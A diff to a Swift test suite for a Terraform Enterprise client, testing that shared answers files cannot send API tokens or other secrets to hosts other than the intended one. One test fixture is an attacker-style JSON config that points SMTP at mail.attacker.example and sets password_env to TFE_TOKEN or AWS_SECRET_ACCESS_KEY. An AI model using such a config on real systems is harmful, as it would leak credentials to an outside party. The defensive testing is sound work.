@@ -5,7 +5,7 @@ import TFEClient
 import TFESandbox
 
 /// A shared answers file must never be able to send the admin's token, or another secret,
-/// somewhere else (issue 13, findings 2 and 4). A second sandbox plays the stranger's listener:
+/// somewhere else. A second sandbox plays the stranger's listener:
 /// its request log counts what reached it.
 extension TerminalSuite {
 @Suite("The token is bound to its host")
@@ -42,12 +42,16 @@ struct TokenBindingTests {
 
             // Confirmed: by --address, by TFE_ADDRESS, or by a token tied to that host.
             let listenerToken = listener.tokens.siteAdmin
-            let host = try #require(URL(string: listener.address)?.host)
             for (what, args, env) in [
                 ("--address", ["plan", "--answers", shared, "--address", listener.address], ["TFE_TOKEN": listenerToken]),
                 ("TFE_ADDRESS", ["plan", "--answers", shared], ["TFE_TOKEN": listenerToken, "TFE_ADDRESS": listener.address]),
-                ("TF_TOKEN_<host>", ["plan", "--answers", shared], [TokenLookup.terraformVariableName(forHost: host): listenerToken]),
+                ("credentials file host:port", ["plan", "--answers", shared], [:]),
             ] {
+                // The listener has a port, which TF_TOKEN_ cannot name: its host-bound token is the
+                // credentials file's `host:port` entry, as `terraform login` writes it.
+                try FileManager.default.createDirectory(atPath: dir + "/.terraform.d", withIntermediateDirectories: true)
+                let key = TokenLookup.credentialsHost(for: try #require(URL(string: listener.address)))
+                try #"{"credentials":{"\#(key)":{"token":"\#(listenerToken)"}}}"#.write(toFile: dir + "/.terraform.d/credentials.tfrc.json", atomically: true, encoding: .utf8)
                 let before = await listener.store.requestLog.count
                 let r = await Self.run(args, env: env, in: dir)
                 #expect(r.status == 2, "\(what): \(r.output)")
@@ -58,21 +62,22 @@ struct TokenBindingTests {
         }
     }
 
-    @Test("password_env naming the API token, or a variable holding it, is refused before any request")
+    @Test("password_env naming the API token, another secret's variable, or a variable holding the token is refused before any request")
     func passwordEnvRefused() async throws {
         try await Auto.with { server, dir in
             let tokenFile = dir + "/token"
             _ = FileManager.default.createFile(atPath: tokenFile, contents: Data(server.tokens.siteAdmin.utf8), attributes: [.posixPermissions: 0o600])
             let attacker = #"{"organization":"my-org","smtp":{"enabled":true,"host":"mail.attacker.example","port":25,"sender":"x@attacker.example","auth":"login","username":"u","password_env":"%@","test_email_address":"x@attacker.example"}}"#
-            for (variable, env) in [("TFE_TOKEN", ["TFE_TOKEN": server.tokens.siteAdmin]),
-                                    ("INNOCENT", ["INNOCENT": server.tokens.siteAdmin])] {
+            for (variable, env, why) in [("TFE_TOKEN", ["TFE_TOKEN": server.tokens.siteAdmin], "not a variable for the SMTP password"),
+                                         ("AWS_SECRET_ACCESS_KEY", ["AWS_SECRET_ACCESS_KEY": "fake-aws-secret-canary"], "not a variable for the SMTP password"),
+                                         ("SMTP_INNOCENT", ["SMTP_INNOCENT": server.tokens.siteAdmin], "API token")] {
                 let file = Auto.write(dir, "attacker-\(variable).json", attacker.replacingOccurrences(of: "%@", with: variable))
                 for command in ["plan", "apply"] {
                     let args = [command, "--answers", file, "--address", server.address, "--token-file", tokenFile] + (command == "apply" ? ["--auto-approve"] : [])
                     let r = await Self.run(args, env: env, in: dir)
                     #expect(r.status == 1, "\(variable) \(command): \(r.output)")
-                    #expect(r.output.contains("API token"), "\(variable) \(command): \(r.output)")
-                    #expect(!r.output.contains(server.tokens.siteAdmin))
+                    #expect(r.output.contains(why), "\(variable) \(command): \(r.output)")
+                    #expect(!r.output.contains(server.tokens.siteAdmin) && !r.output.contains("fake-aws-secret-canary"))
                 }
             }
             #expect(await server.store.requestLog.isEmpty, "refused before any request")
